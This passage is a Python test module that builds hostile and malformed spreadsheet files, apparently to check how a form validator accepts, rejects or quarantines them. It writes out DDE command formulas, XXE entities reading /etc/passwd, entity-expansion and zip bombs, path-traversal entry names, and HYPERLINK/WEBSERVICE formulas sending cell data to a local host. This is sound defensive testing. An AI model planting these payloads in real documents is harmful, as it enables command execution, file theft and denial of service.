"""Hostile, damaged and odd files, each with the outcome, reason and finding it must give. `row`: the kind of case, as in
`docs/berkas-kembali.md`. Everything is made here from an issued form filled by editing its XML."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property
from html import escape
from typing import Any
from xml.etree import ElementTree

from rmrb_xlsx.demo.fill import fill
from tests.hostile.forge import NS, Book, Entry, by_hand, compound, packed, parts_of

MAIN_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = ((NS, "http://purl.oclc.org/ooxml/spreadsheetml/main"), (MAIN_REL, "http://purl.oclc.org/ooxml/officeDocument/relationships"))


@dataclass(frozen=True)
class Form:
    """A filled form and where its inputs stand."""

    data: bytes
    places: dict[tuple[str, str, str], tuple[str, str]]
    dates: dict[tuple[str, str], float]

    @cached_property
    def parts(self) -> dict[str, bytes]:
        return parts_of(self.data)

    def at(self, table: str, row: str, field: str = "isian") -> tuple[str, str]:
        """(sheet, cell) of an input."""
        return self.places[table, row, field]

    def book(self) -> Book:
        """The form taken apart."""
        return Book(self.data)

    def entries(self) -> list[Entry]:
        """Its parts as honest entries."""
        return [Entry(n, c) for n, c in self.parts.items()]


def filled_form(empty: bytes, values: list[dict[str, Any]]) -> Form:
    """The form with every example in its cell."""
    import datetime as dt
    cells: dict[tuple[str, str], str | float] = {}
    for v in values:
        content = v["example"]
        if v["kind"] == "date" and content:
            content = float((dt.date.fromisoformat(content) - dt.date(1899, 12, 30)).days)
        if content is not None:
            cells[v["sheet"], v["cell"]] = content
    places = {(v["table"], v["row"], v["field"]): (v["sheet"], v["cell"]) for v in values}
    ElementTree.register_namespace("", NS)  # openpyxl gives it a prefix of its own when it is imported
    dates = {(v["sheet"], v["cell"]): float(cells[v["sheet"], v["cell"]]) for v in values if v["kind"] == "date" and v["example"]}
    return Form(fill(empty, cells), places, dates)


Make = Callable[[Form], bytes]


@dataclass(frozen=True)
class Case:
    """`code`, `sheet`, `cell`: the finding that must be there; `sheet` and `cell` may be taken from the form by a key."""

    name: str
    row: int
    outcome: str
    reason: str | None
    make: Make
    code: str | None = None
    key: tuple[str, ...] | None = None
    place: tuple[str | None, str | None] | None = None
    value: object = ...


ACCEPT, REJECT, HOLD = "accepted", "rejected", "quarantined"
STEP = "a1.a.2026.1"
PROGRESS, STATUS, DONE = ("rencana_aksi", STEP, "progres"), ("rencana_aksi", STEP, "status"), ("rencana_aksi", STEP, "tanggal")
WORDS = ("rencana_aksi", STEP, "realisasi")
NUMBER = ("kegiatan", "k1.1", "realisasi")
COUNT = ("hasil", "lhkasn_wajib", "isian")


def cell(key: tuple[str, ...], inner: str, attributes: str = "") -> Make:
    """One input cell with this XML."""
    return lambda f: f.book().cell(*f.at(*key), inner, attributes).save()


def text(key: tuple[str, ...], content: str) -> Make:
    return lambda f: f.book().text(*f.at(*key), content).save()


def number(key: tuple[str, ...], content: str) -> Make:
    return lambda f: f.book().number(*f.at(*key), content).save()


def formula(key: tuple[str, ...], content: str, cached: str | None = "0") -> Make:
    return lambda f: f.book().formula(*f.at(*key), content, cached).save()


def part(name: str, content: bytes) -> Make:
    """One more part, without a word in the directory of types."""
    return lambda f: packed({**f.parts, name: content})


def replaced(name: str, content: bytes) -> Make:
    """One part in place of another."""
    def make(f: Form) -> bytes:
        assert name in f.parts
        return packed({**f.parts, name: content})
    return make


def edited(name: str, old: str, new: str) -> Make:
    return lambda f: f.book().sub(name, old, new).save()


def on(sheet: str, old: str, new: str) -> Make:
    """A change in the XML of a sheet."""
    return lambda f: (b := f.book()).sub(b.path(sheet), old, new).save()


def everywhere(change: Callable[[str, bytes], bytes]) -> Make:
    return lambda f: packed({n: change(n, c) for n, c in f.parts.items()})


def strict(_: str, content: bytes) -> bytes:
    for old, new in STRICT:
        content = content.replace(old.encode(), new.encode())
    return content


def prefixed(name: str, content: bytes) -> bytes:
    """Every element of the sheets under a prefix of its own."""
    if not name.startswith("xl/worksheets/sheet"):
        return content
    bare = re.sub(r"<(/?)([A-Za-z])", r"<\1m:\2", re.sub(r"<\?xml.*?\?>\s*", "", content.decode()))
    return bare.replace(f'xmlns="{NS}"', f'xmlns:m="{NS}"', 1).encode()


def utf16(name: str, content: bytes) -> bytes:
    return content.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16") if name.startswith("xl/worksheets/") else content


def unreferenced(name: str, content: bytes) -> bytes:
    """Cells without their address: a row keeps its number, blanks are written out to keep their order."""
    if not name.startswith("xl/worksheets/sheet"):
        return content

    def row(match: re.Match[str]) -> str:
        cells, col, told = re.findall(r'<c r="([A-Z]+)\d+"([^>]*?)(/>|>.*?</c>)', match[2], re.DOTALL), 0, ""
        for letters, attributes, rest in cells:
            at = 0
            for letter in letters:
                at = at * 26 + ord(letter) - 64
            told += "<c/>" * (at - col - 1) + f"<c{attributes}{rest}"
            col = at
        return match[1] + told + "</row>"
    return re.sub(r"(<row [^>]*>)(.*?)</row>", row, content.decode(), flags=re.DOTALL).encode()


def shuffled(name: str, content: bytes) -> bytes:
    """Rows from last to first, and a dimension that claims one cell."""
    if not name.startswith("xl/worksheets/sheet") or b"</sheetData>" not in content:
        return content
    rows = re.findall(r"<row [^>]*/>|<row .*?</row>", content.decode(), re.DOTALL)
    head, tail = content.decode().split("<sheetData>")[0], content.decode().split("</sheetData>")[1]
    return (re.sub(r'<dimension ref="[^"]*" ?/>', '<dimension ref="A1"/>', head) + "<sheetData>" + "".join(reversed(rows)) + "</sheetData>" + tail).encode()


def date1904(f: Form) -> bytes:
    """Another base of dates, and every date moved with it."""
    book = f.book().edit("xl/workbook.xml", lambda t: t.replace("<workbookPr", '<workbookPr date1904="1"', 1))
    for place, serial in f.dates.items():
        book.number(*place, str(serial - 1462))
    return book.save()


def dtd(inner: str, encoding: str = "utf-8") -> Make:
    def make(f: Form) -> bytes:
        name = f.book().path("KKE")
        body = re.sub(r"^<\?xml.*?\?>\s*", "", f.parts[name].decode())
        return packed({**f.parts, name: (f'<?xml version="1.0" encoding="{encoding}"?>{inner}' + body).encode(encoding)})
    return make


def sheet_of(rows: str) -> Make:
    """The form with one more sheet of these rows."""
    return lambda f: f.book().add_sheet("Lain", rows).save()


def lie(name: str, **lies: Any) -> Make:
    return lambda f: by_hand([Entry(e.name, e.content, **lies) if e.name == name else e for e in f.entries()])


def more(*entries: Entry) -> Make:
    return lambda f: by_hand([*f.entries(), *entries])


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> Make:
    return lambda f: f.book().sub("xl/_rels/workbook.xml.rels", "</Relationships>",
                                  f'<Relationship Id="rZ" Type="{MAIN_REL}/{kind}" Target="{target}"{mode}/></Relationships>').save()


def many_sheets(f: Form, count: int) -> bytes:
    """Some thousand sheets of another workbook moved in."""
    book = f.book()
    names, links = "", ""
    for i in range(count):
        book.parts[f"xl/worksheets/asing{i}.xml"] = f'<worksheet xmlns="{NS}"><sheetData><row r="1"><c r="A1"><v>{i}</v></c></row></sheetData></worksheet>'.encode()
        names += f'<sheet name="Asing {i}" sheetId="{1000 + i}" r:id="rA{i}"/>'
        links += f'<Relationship Id="rA{i}" Type="{MAIN_REL}/worksheet" Target="worksheets/asing{i}.xml"/>'
    return book.sub("xl/workbook.xml", "</sheets>", names + "</sheets>").sub("xl/_rels/workbook.xml.rels", "</Relationships>", links + "</Relationships>").save()


def percent_format(f: Form) -> bytes:
    """1 in a cell shown as a percentage: the person sees 100 %."""
    book = f.book()
    count = len(re.findall(r"<xf ", book.parts["xl/styles.xml"].decode().split("<cellXfs")[1].split("</cellXfs>")[0]))
    book.edit("xl/styles.xml", lambda t: t.replace("</cellXfs>", '<xf numFmtId="9" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>'))
    return book.cell(*f.at(*PROGRESS), "<v>1</v>", f's="{count}"').save()


def false_cache(f: Form) -> bytes:
    """Every formula of `Kegiatan` claims 999."""
    return (b := f.book()).edit(b.path("Kegiatan"), lambda t: re.sub(r'(<c r="H\d+"[^>]*?)(?: t="str")?>(<f>.*?</f>)(?:<v>[^<]*</v>|<v ?/>)?', r"\1>\2<v>999</v>", t)).save()


def overwritten(f: Form) -> bytes:
    """A formula of the form typed over."""
    return (b := f.book()).edit(b.path("Kegiatan"), lambda t: re.sub(r'(<c r="H\d+"[^>]*?)(?: t="str")?><f>.*?</f>(?:<v>[^<]*</v>|<v ?/>)?', r"\1><v>55</v>", t)).save()


def ods(rows: str) -> bytes:
    """A minimal OpenDocument spreadsheet."""
    spaces = " ".join(f'xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{p}:1.0"' for p in ("office", "table", "text"))
    content = f'<office:document-content {spaces}><office:body><office:spreadsheet><table:table table:name="a">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
    return packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode(),
                   "META-INF/manifest.xml": b"<manifest/>"})


def token_changed(f: Form, old: str, new: str) -> bytes:
    """Every carrier edited alike, as one who changes it by hand would."""
    def change(_: str, content: bytes) -> bytes:
        return re.sub(rb"RMRB1\|[^<]*", lambda m: m[0].replace(escape(old).encode(), escape(new).encode()), content)
    return everywhere(change)(f)


def without_token(f: Form) -> bytes:
    """All three carriers gone."""
    return packed({n: re.sub(rb"RMRB1\|[^<]*", b"-", c) for n, c in f.parts.items() if n != "docProps/custom.xml"})


BIG_PART = b"\0" * (70 * 1024 * 1024)
XLS_STREAM = "Workbook"
SHEET1 = "xl/worksheets/sheet3.xml"
CASES: tuple[Case, ...] = (
    # --- what is right stays right -----------------------------------------------------------------------------------------
    Case("utuh", 1, ACCEPT, None, lambda f: f.data),
    Case("ooxml-ketat", 47, ACCEPT, None, everywhere(strict)),
    Case("awalan-nama", 47, ACCEPT, None, everywhere(prefixed)),
    Case("utf-16", 47, ACCEPT, None, everywhere(utf16)),
    Case("tanpa-alamat-sel", 47, ACCEPT, None, everywhere(unreferenced)),
    Case("garis-miring-terbalik", 47, ACCEPT, None, lambda f: packed({n.replace("/", "\\"): c for n, c in f.parts.items()})),
    Case("huruf-besar-kecil", 47, ACCEPT, None, lambda f: packed({n.upper() if n.startswith("xl/worksheets/s") else n: c for n, c in f.parts.items()})),
    Case("tanpa-mampat", 47, ACCEPT, None, lambda f: packed(f.parts, method=zipfile.ZIP_STORED)),
    Case("baris-terbalik-dimensi-bohong", 27, ACCEPT, None, everywhere(shuffled)),
    Case("dasar-1904", 37, ACCEPT, None, date1904, value="2026-03-15", key=DONE),
    Case("jumlah-teks-bohong", 29, ACCEPT, None, lambda f: f.book().edit("xl/sharedStrings.xml", lambda t: re.sub(r'uniqueCount="\d+"', 'uniqueCount="4294967295"', t)).save()),
    Case("teks-mirip-rumus", 42, ACCEPT, None, text(WORDS, "=cmd|'/c calc'!A1"), key=WORDS, value="=cmd|'/c calc'!A1"),
    Case("teks-kaya", 1, ACCEPT, None, cell(WORDS, "<is><r><t>Kegiatan </t></r><r><rPr><b/></rPr><t>selesai</t></r><rPh sb='0' eb='1'><t>x</t></rPh></is>", 't="inlineStr"'), key=WORDS, value="Kegiatan selesai"),
    Case("60000-gaya", 31, ACCEPT, None, lambda f: f.book().edit("xl/styles.xml", lambda t: t.replace("</cellXfs>", '<xf numFmtId="0"/>' * 60_000 + "</cellXfs>")).save()),
    Case("30000-aturan-isian", 31, ACCEPT, None, lambda f: f.book().tail("KKE", "<dataValidations>" + "".join(
        f'<dataValidation type="list" sqref="ZZ{i}"><formula1>"a,b"</formula1></dataValidation>' for i in range(1, 30_001)) + "</dataValidations>").save()),
    Case("baris-kosong-bergaya", 31, ACCEPT, None, lambda f: f.book().rows("KKE", "".join(f'<row r="{i}"><c r="A{i}" s="1"/></row>' for i in range(500, 1_048_577))).save()),
    # --- containers -----------------------------------------------------------------------------------------------------------
    Case("kosong", 20, REJECT, "berkas-kosong", lambda f: b"", "berkas-kosong"),
    Case("acak", 20, REJECT, "bukan-buku-kerja", lambda f: bytes(range(256)) * 20),
    Case("terpotong", 20, REJECT, "berkas-rusak", lambda f: f.data[: len(f.data) // 2], "berkas-rusak"),
    Case("bit-terbalik", 20, REJECT, "berkas-rusak", lambda f: f.data[:3000] + bytes(b ^ 0x55 for b in f.data[3000:3040]) + f.data[3040:]),
    Case("zip-bersandi", 21, REJECT, "terkunci-sandi", lambda f: by_hand([Entry(e.name, e.content, flags=1) for e in f.entries()])),
    Case("sandi-agile", 21, REJECT, "terkunci-sandi", lambda f: compound({"EncryptionInfo": b"x" * 300, "EncryptedPackage": b"y" * 9000}), "terkunci-sandi"),
    Case("ods-bersandi", 21, REJECT, "terkunci-sandi", lambda f: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"\x99" * 500,
         "META-INF/manifest.xml": b'<manifest:manifest xmlns:manifest="m"><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'})),
    Case("bom-zip", 22, REJECT, "melebihi-batas", lambda f: packed({**f.parts, SHEET1: BIG_PART}), "melebihi-batas"),
    Case("bom-zip-banyak", 22, REJECT, "melebihi-batas", lambda f: packed({**f.parts, "xl/a.bin": BIG_PART[: 63 << 20], "xl/b.bin": BIG_PART[: 63 << 20], "xl/c.bin": BIG_PART[: 9 << 20]})),
    Case("teks-bersama-sejuta", 22, REJECT, "melebihi-batas", replaced("xl/sharedStrings.xml", f'<sst xmlns="{NS}">'.encode() + b"<si/>" * 1_000_000 + b"</sst>")),
    Case("unsur-lima-juta", 22, REJECT, "melebihi-batas", replaced(SHEET1, f'<worksheet xmlns="{NS}"><sheetData>'.encode() + b"<c/>" * 5_000_000 + b"</sheetData></worksheet>")),
    Case("ukuran-bohong", 23, REJECT, "berkas-berbahaya", lie(SHEET1, size=1000), "berkas-berbahaya"),
    Case("ukuran-bohong-besar", 23, REJECT, "berkas-berbahaya", lie(SHEET1, size=900_000)),
    Case("ukuran-setempat-beda", 23, REJECT, "berkas-berbahaya", lie(SHEET1, local_size=7)),
    Case("nama-setempat-beda", 23, REJECT, "berkas-berbahaya", lie(SHEET1, local_name="xl/worksheets/sheet9.xmk")),
    Case("jumlah-periksa-salah", 23, REJECT, "berkas-rusak", lie(SHEET1, crc=1)),
    Case("saling-menindih", 23, REJECT, "berkas-berbahaya", more(Entry("xl/x.xml", b"<a/>", at=0))),
    Case("nama-ganda", 23, REJECT, "berkas-berbahaya", more(Entry(SHEET1, b"<a/>"))),
    Case("nama-ganda-huruf", 23, REJECT, "berkas-berbahaya", more(Entry(SHEET1.upper(), b"<a/>"))),
    Case("nama-ganda-miring", 23, REJECT, "berkas-berbahaya", more(Entry(SHEET1.replace("/", "\\"), b"<a/>"))),
    Case("jumlah-bagian-bohong", 23, REJECT, "berkas-berbahaya", lambda f: by_hand(f.entries(), count=3)),
    Case("65000-bagian", 23, REJECT, "melebihi-batas", more(*(Entry(f"x/{i}", b"", method=0) for i in range(65_000)))),
    Case("nama-keluar", 51, REJECT, "berkas-berbahaya", more(Entry("../../lari.txt", b"x"))),
    Case("nama-diska", 51, REJECT, "berkas-berbahaya", more(Entry("C:/lari.txt", b"x"))),
    Case("nama-akar", 51, REJECT, "berkas-berbahaya", more(Entry("/etc/lari", b"x"))),
    Case("taut-simbolik", 51, REJECT, "berkas-berbahaya", more(Entry("xl/taut", b"/etc/passwd", mode=0o120777))),
    Case("cara-mampat-99", 23, REJECT, "berkas-rusak", lie(SHEET1, method=99)),
    Case("awalan-pdf", 48, HOLD, "berkas-ganda-bentuk", lambda f: b"%PDF-1.4\n" + f.data, "berkas-ganda-bentuk"),
    Case("ekor-asing", 48, HOLD, "berkas-ganda-bentuk", lambda f: f.data + b"<script>"),
    Case("catatan-panjang", 48, HOLD, "berkas-ganda-bentuk", lambda f: packed(f.parts, comment=b"x" * 2000)),
    Case("tanpa-jenis-isi", 26, REJECT, "berkas-rusak", lambda f: packed({n: c for n, c in f.parts.items() if n != "[Content_Types].xml"})),
    Case("tanpa-hubungan", 26, REJECT, "berkas-rusak", lambda f: packed({n: c for n, c in f.parts.items() if n != "_rels/.rels"})),
    Case("tanpa-lembar", 26, REJECT, "berkas-rusak", lambda f: packed({n: c for n, c in f.parts.items() if n != SHEET1})),
    Case("lembar-keluar", 26, REJECT, "berkas-berbahaya", edited("xl/_rels/workbook.xml.rels", 'Target="worksheets/sheet3.xml"', 'Target="../../../sheet3.xml"')),
    Case("lembar-luar", 26, REJECT, "berkas-berbahaya", edited("xl/_rels/workbook.xml.rels", 'Target="worksheets/sheet3.xml"', 'Target="http://127.0.0.1:9/s.xml" TargetMode="External"')),
    Case("lembar-dipakai-dua-kali", 26, REJECT, "berkas-rusak", edited("xl/_rels/workbook.xml.rels", 'Target="worksheets/sheet3.xml"', 'Target="worksheets/sheet4.xml"')),
    Case("lembar-bernama-sama", 26, REJECT, "berkas-rusak", edited("xl/workbook.xml", 'name="KKE"', 'name="hasil"')),
    Case("ruang-nama-asing", 26, REJECT, "berkas-rusak", edited("xl/workbook.xml", NS, "urn:lain")),
    # --- XML --------------------------------------------------------------------------------------------------------------------
    Case("entitas", 24, REJECT, "berkas-berbahaya", dtd('<!DOCTYPE a [<!ENTITY b "c">]>')),
    Case("seribu-tawa", 24, REJECT, "berkas-berbahaya", dtd('<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>')),
    Case("entitas-luar", 24, REJECT, "berkas-berbahaya", dtd('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')),
    Case("dtd-luar", 24, REJECT, "berkas-berbahaya", dtd('<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd">')),
    Case("dtd-utf-16", 24, REJECT, "berkas-berbahaya", dtd('<!DOCTYPE a [<!ENTITY b "c">]>', "utf-16")),
    Case("dtd-sesudah-catatan", 24, REJECT, "berkas-berbahaya", dtd("<!--" + "x" * 200_000 + '--><!DOCTYPE a [<!ENTITY b "c">]>')),
    Case("dtd-bagian-lain", 24, REJECT, "berkas-berbahaya", part("xl/tak-dibaca.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>')),
    Case("dtd-vml", 24, REJECT, "berkas-berbahaya", part("xl/drawings/v.vml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>')),
    Case("terlalu-dalam", 25, REJECT, "melebihi-batas", on("KKE", "<sheetData>", "<a>" * 5000 + "</a>" * 5000 + "<sheetData>")),
    Case("banjir-atribut", 25, REJECT, "melebihi-batas", on("KKE", "<sheetData>", "<a " + " ".join(f'a{i}="1"' for i in range(20_000)) + "/><sheetData>")),
    Case("teks-raksasa", 25, REJECT, "melebihi-batas", text(WORDS, "x" * 2_000_000)),
    Case("xml-rusak", 26, REJECT, "berkas-rusak", on("KKE", "</sheetData>", "</sheetDat>")),
    Case("huruf-kendali-mentah", 26, REJECT, "berkas-rusak", on("KKE", "<v>", "<v>\x01")),
    Case("utf-8-rusak", 26, REJECT, "berkas-rusak", lambda f: packed({**f.parts, SHEET1: f.parts[SHEET1].replace(b"<v>", b"<v>\xff", 1)})),
    Case("sandi-huruf-asing", 26, REJECT, "berkas-rusak", lambda f: packed({**f.parts, SHEET1: f.parts[SHEET1].replace(b"UTF-8", b"x-aneh", 1)})),
    # --- the grid ----------------------------------------------------------------------------------------------------------------
    Case("sel-terjauh", 27, ACCEPT, None, lambda f: f.book().rows("KKE", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>').save(), "di-luar-formulir", place=("KKE", "XFD1048576")),
    Case("sel-bawah-jauh", 27, ACCEPT, None, lambda f: f.book().rows("KKE", '<row r="1048576"><c r="A1048576"><v>1</v></c></row>').save(), "di-luar-formulir", place=("KKE", "A1048576")),
    Case("gabung-sekolom", 27, ACCEPT, None, lambda f: f.book().tail("KKE", '<mergeCells count="1"><mergeCell ref="B1:B1048576"/></mergeCells>').save()),
    Case("gabung-selembar", 27, ACCEPT, None, lambda f: f.book().tail("Kegiatan", '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>').save(), "sel-digabung", key=NUMBER),
    Case("taut-selembar", 27, ACCEPT, None, lambda f: f.book().tail("KKE", '<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>').save()),
    Case("dimensi-terbalik", 27, ACCEPT, None, lambda f: (b := f.book()).edit(b.path("KKE"), lambda t: re.sub(r'<dimension ref="[^"]*" ?/>', '<dimension ref="C2:A1"/>', t)).save()),
    Case("baris-raksasa", 28, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="4294967295"><c><v>1</v></c></row>').save()),
    Case("baris-lewat-satu", 28, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="1048577"><c r="A1048577"><v>1</v></c></row>').save()),
    Case("baris-nol", 28, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="0"><c><v>1</v></c></row>').save()),
    Case("kolom-raksasa", 28, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="900"><c r="ZZZZ900"><v>1</v></c></row>').save()),
    Case("alamat-nol", 28, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="900"><c r="A0"><v>1</v></c></row>').save()),
    Case("alamat-aneh", 28, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="900"><c r="../x"><v>1</v></c></row>').save()),
    Case("baris-bertentangan", 28, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="900"><c r="A901"><v>1</v></c></row>').save()),
    Case("sel-ganda", 33, REJECT, "berkas-rusak", lambda f: f.book().rows("KKE", '<row r="900"><c r="A900"><v>1</v></c><c r="A900"><v>2</v></c></row>').save()),
    Case("nomor-teks-besar", 29, REJECT, "berkas-rusak", cell(WORDS, "<v>999999</v>", 't="s"')),
    Case("nomor-teks-minus", 29, REJECT, "berkas-rusak", cell(WORDS, "<v>-1</v>", 't="s"')),
    Case("sejuta-gaya", 30, REJECT, "melebihi-batas", lambda f: f.book().edit("xl/styles.xml", lambda t: t.replace("</cellXfs>", '<xf numFmtId="0"/>' * 1_000_000 + "</cellXfs>")).save()),
    Case("500000-nama", 30, REJECT, "melebihi-batas", lambda f: f.book().edit("xl/workbook.xml", lambda t: t.replace("</definedNames>", "".join(
        f'<definedName name="n{i}">1</definedName>' for i in range(500_000)) + "</definedNames>")).save()),
    Case("2000-lembar", 44, ACCEPT, None, lambda f: many_sheets(f, 2000), "lembar-tambahan"),
    # --- contents of cells --------------------------------------------------------------------------------------------------------
    Case("pilihan-di-luar-daftar", 34, ACCEPT, None, text(STATUS, "Sudah beres"), "bukan-pilihan", STATUS),
    Case("persen-bertanda", 35, ACCEPT, None, text(PROGRESS, "100 %"), "dibaca-sebagai", PROGRESS, value=100),
    Case("angka-indonesia", 35, ACCEPT, None, text(NUMBER, "1.234,56"), "dibaca-sebagai", NUMBER, value=1234.56),
    Case("angka-rupiah", 35, ACCEPT, None, text(NUMBER, "Rp 1.000,-"), "dibaca-sebagai", NUMBER, value=1000),
    Case("angka-taksa", 35, ACCEPT, None, text(NUMBER, "1.234"), "angka-taksa", NUMBER, value=None),
    Case("angka-taksa-nol", 35, ACCEPT, None, text(NUMBER, "10.000"), "angka-taksa", NUMBER, value=None),
    Case("format-persen", 35, ACCEPT, None, percent_format, "dibaca-sebagai", PROGRESS, value=100),
    Case("angka-nan", 36, ACCEPT, None, number(NUMBER, "NaN"), "angka-tak-wajar", NUMBER, value=None),
    Case("angka-tak-hingga", 36, ACCEPT, None, number(NUMBER, "INF"), "angka-tak-wajar", NUMBER, value=None),
    Case("angka-1e400", 36, ACCEPT, None, number(NUMBER, "1e400"), "angka-tak-wajar", NUMBER, value=None),
    Case("angka-garis-bawah", 36, ACCEPT, None, number(NUMBER, "1_000"), "angka-tak-wajar", NUMBER, value=None),
    Case("angka-arab", 36, ACCEPT, None, number(NUMBER, "٣٤"), "angka-tak-wajar", NUMBER, value=None),
    Case("angka-20-digit", 36, ACCEPT, None, number(NUMBER, "12345678901234567890"), "presisi-hilang", NUMBER, value=None),
    Case("tanggal-minus", 37, ACCEPT, None, number(DONE, "-5"), "bukan-tanggal", DONE, value=None),
    Case("tanggal-60", 37, ACCEPT, None, number(DONE, "60"), "bukan-tanggal", DONE, value=None),
    Case("tanggal-raksasa", 37, ACCEPT, None, number(DONE, "1e20"), "bukan-tanggal", DONE, value=None),
    Case("tanggal-bulan-13", 37, ACCEPT, None, cell(DONE, "<v>2026-13-01T00:00:00</v>", 't="d"'), "bukan-tanggal", DONE, value=None),
    Case("galat-rujukan", 38, ACCEPT, None, cell(NUMBER, "<v>#REF!</v>", 't="e"'), "galat-rumus", NUMBER, value=None),
    Case("galat-tak-dikenal", 38, ACCEPT, None, cell(NUMBER, "<v>#ANEH!</v>", 't="e"'), "galat-rumus", NUMBER, value=None),
    Case("boolean-rusak", 38, ACCEPT, None, cell(NUMBER, "<v>yes</v>", 't="b"'), "isi-tak-wajar", NUMBER, value=None),
    Case("angka-berupa-kata", 38, ACCEPT, None, number(NUMBER, "dua belas"), "angka-tak-wajar", NUMBER, value=None),
    Case("jenis-sel-aneh", 38, ACCEPT, None, cell(NUMBER, "<v>1</v>", 't="zz"'), "isi-tak-wajar", NUMBER, value=None),
    Case("gaya-9999", 38, ACCEPT, None, cell(NUMBER, "<v>1</v>", 's="9999"'), "format-sel-rusak", NUMBER, value=1),
    Case("hitungan-bohong", 39, ACCEPT, None, false_cache, "hitungan-berbeda"),
    Case("hitungan-tertimpa", 39, ACCEPT, None, overwritten, "rumus-tertimpa"),
    Case("belum-dihitung", 39, ACCEPT, None, lambda f: f.data, "belum-dihitung"),
    Case("rumus-angka", 40, ACCEPT, None, formula(PROGRESS, "50+50", "999"), "rumus-tetap", PROGRESS, value=100),
    Case("rumus-angka-bohong", 40, ACCEPT, None, formula(PROGRESS, "50+50", "999"), "hitungan-berbeda", PROGRESS, value=100),
    Case("rumus-sel-lain", 40, ACCEPT, None, lambda f: f.book().formula(*f.at(*NUMBER), f"SUM({f.at(*COUNT)[0]}!{f.at(*COUNT)[1]},2)", "7").save(), "rumus-dihitung", NUMBER),
    Case("rumus-rumit-tersimpan", 40, ACCEPT, None, formula(NUMBER, 'IF(A1="x",1,5)', "5"), "rumus-tersimpan", NUMBER, value=5),
    Case("rumus-tanpa-hasil", 40, ACCEPT, None, formula(NUMBER, "A1*2", None), "rumus-di-isian", NUMBER, value=None),
    Case("teks-40000-huruf", 53, ACCEPT, None, text(WORDS, "x" * 40_000), "terlalu-panjang", WORDS, value=None),
    Case("huruf-kendali", 53, ACCEPT, None, text(WORDS, "selesai_x0001_"), "huruf-terlarang", WORDS, value=None),
    Case("separuh-surogat", 53, ACCEPT, None, text(WORDS, "selesai_xD800_"), "huruf-terlarang", WORDS, value=None),
    Case("pilihan-huruf-kiril", 52, ACCEPT, None, text(STATUS, "Ѕelesai"), "bukan-pilihan", STATUS, value=None),
    Case("pilihan-lebar-penuh", 52, ACCEPT, None, text(STATUS, "Ｓelesai\u200b"), "dibaca-sebagai", STATUS, value="Selesai"),
    Case("tanda-arah", 52, ACCEPT, None, text(WORDS, "lap\u202exslx.exe"), "huruf-menyamar", WORDS),
    Case("angka-jadi-tanggal", 35, ACCEPT, None, cell(NUMBER, "<v>2026-01-05T00:00:00</v>", 't="d"'), "angka-jadi-tanggal", NUMBER, value=None),
    # --- active content --------------------------------------------------------------------------------------------------------------
    Case("dde", 41, HOLD, "isi-aktif", formula(WORDS, "cmd|'/c calc'!A0"), "isi-aktif", value=None, key=WORDS),
    Case("dde-jauh-dari-isian", 41, HOLD, "isi-aktif", lambda f: f.book().rows("KKE", '<row r="900"><c r="Z900"><f>cmd|\'/c calc\'!A0</f></c></row>').save()),
    Case("taut-keluar", 41, HOLD, "isi-aktif", formula(WORDS, 'HYPERLINK("http://127.0.0.1:9/?"&amp;A1,"x")'.replace("&amp;", "&"))),
    Case("taut-dirangkai", 41, HOLD, "isi-aktif", formula(WORDS, 'HYPERLINK("ht"&"tp://127.0.0.1:9","x")')),
    Case("layanan-web", 41, HOLD, "isi-aktif", formula(WORDS, '_xlfn.WEBSERVICE("http://127.0.0.1:9")')),
    Case("rujukan-berkas-lain", 41, HOLD, "isi-aktif", formula(NUMBER, "[1]Sheet1!$A$1", "5")),
    Case("rujukan-jalur-lain", 41, HOLD, "isi-aktif", formula(NUMBER, "'C:\\data\\[lain.xlsx]Lembar'!A1", "5")),
    Case("dde-di-nama", 41, HOLD, "isi-aktif", edited("xl/workbook.xml", "</definedNames>", "<definedName name=\"n\">cmd|'/c calc'!A0</definedName></definedNames>")),
    Case("buka-sendiri", 43, HOLD, "isi-aktif", edited("xl/workbook.xml", "</definedNames>", '<definedName name="_xlnm.Auto_Open">KKE!$A$1</definedName></definedNames>')),
    Case("dde-di-aturan-isian", 41, HOLD, "isi-aktif", lambda f: f.book().tail("KKE", "<dataValidations><dataValidation type=\"custom\" sqref=\"A1\"><formula1>cmd|'/c calc'!A0</formula1></dataValidation></dataValidations>").save()),
    Case("makro", 43, HOLD, "isi-aktif", part("xl/vbaProject.bin", b"x"), "isi-aktif"),
    Case("makro-bernama-lain", 43, HOLD, "isi-aktif", related("vbaProject", "lain.bin", "")),
    Case("makro-lama", 43, HOLD, "isi-aktif", part("xl/macrosheets/sheet1.xml", b"<a/>")),
    Case("tautan-buku-lain", 43, HOLD, "isi-aktif", part("xl/externalLinks/externalLink1.xml", b"<externalLink/>")),
    Case("tautan-dde", 43, HOLD, "isi-aktif", part("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>")),
    Case("sambungan", 43, HOLD, "isi-aktif", part("xl/connections.xml", b"<connections/>")),
